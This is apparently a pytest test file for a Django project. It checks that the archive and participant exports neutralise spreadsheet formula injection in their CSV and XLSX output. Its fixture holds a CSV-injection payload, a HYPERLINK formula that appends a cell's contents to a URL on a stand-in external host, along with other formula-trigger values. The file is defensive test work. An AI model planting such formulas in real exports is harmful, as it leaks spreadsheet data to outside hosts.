"""Issue 13.5: text that starts like a formula reaches the office's spreadsheets as text, never as a formula
(CSV: prefixed with an apostrophe; XLSX: a text cell), in the archive export and the participant exports."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from coalitions.factories import (
    ActivityPageFactory,
    CoalitionMembershipFactory,
    CoalitionPageFactory,
    coalition_index,
)
from network.export import neutralise
from network.factories import ContactPersonFactory, ParticipantFactory
from network.models import Role
from tests.conftest import at

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example.org/?d="&A1,"Klik")'


@pytest.fixture
def applicant():
    participant = ParticipantFactory(name=FORMULA, role=Role.PARTNER)
    ContactPersonFactory(participant=participant, name="@SUM(1+1)", email="a@example.org", phone="+31 6 1")
    coalition = CoalitionPageFactory(parent=coalition_index(), title="Rookvrije sport")
    CoalitionMembershipFactory(page=coalition, participant=participant)
    ActivityPageFactory(parent=coalition, title="-2+3", published_at=at(datetime.date(2026, 5, 1)))
    return participant


def text(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8-sig")


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(b"".join(response) if response.streaming else response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_formula_triggers_get_an_apostrophe(value):
    assert neutralise(value) == "'" + value
    assert neutralise("Rookvrij = gezond") == "Rookvrij = gezond" and neutralise(3) == 3


def test_archive_csv_and_xlsx_carry_no_formulas(office_client, applicant):
    csv = text(office_client.get("/admin/archief/", {"export": "csv"}))
    assert "'=HYPERLINK" in csv and ";'-2+3;" in csv
    assert ";=HYPERLINK" not in csv and ";-2+3;" not in csv
    cells = xlsx_cells(office_client.get("/admin/archief/", {"export": "xlsx"}))
    by_value = {cell.value: cell for cell in cells}
    assert by_value[FORMULA].data_type == "s" and by_value["-2+3"].data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells)


@pytest.mark.parametrize(
    "listing", ["wagtailsnippets_network_participant:list", "wagtailsnippets_network_contactperson:list"]
)
def test_participant_and_contact_exports_carry_no_formulas(office_client, applicant, listing):
    csv = text(office_client.get(reverse(listing), {"export": "csv"}))
    assert "'=HYPERLINK" in csv
    assert "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv and '"=HYPERLINK' not in csv
    if "contactperson" in listing:
        assert "'@SUM(1+1)" in csv and "'+31 6 1" in csv
    cells = xlsx_cells(office_client.get(reverse(listing), {"export": "xlsx"}))
    assert FORMULA in {cell.value for cell in cells}
    assert not any(cell.data_type == "f" for cell in cells)
